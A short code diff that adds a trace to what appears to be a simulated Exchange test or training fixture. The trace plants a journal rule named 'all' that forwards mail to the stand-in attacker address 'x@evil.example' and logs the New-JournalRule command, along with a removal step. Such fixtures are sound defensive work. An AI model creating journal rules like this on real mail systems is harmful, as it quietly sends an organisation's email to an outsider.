@@ -120,4 +120,21 @@ export const mailTraces: readonly Trace[] = [
       for (const row of exchangeRows(state, 'OutboundConnector')) if (row['Guid'] === id(42)) row['Enabled'] = false;
     },
   },
+  {
+    name: 'a journal rule',
+    words: 'New-JournalRule',
+    plant: (state, at) => {
+      exchangeRows(state, 'JournalRule').push({
+        Guid: id(43),
+        Name: 'all',
+        Identity: 'all',
+        Enabled: true,
+        JournalEmailAddress: 'x@evil.example',
+      });
+      ran(state, at, 'New-JournalRule', { Name: 'all', JournalEmailAddress: 'x@evil.example' });
+    },
+    remove: (state) => {
+      for (const row of exchangeRows(state, 'JournalRule')) if (row['Guid'] === id(43)) row['Enabled'] = false;
+    },
+  },
 ];
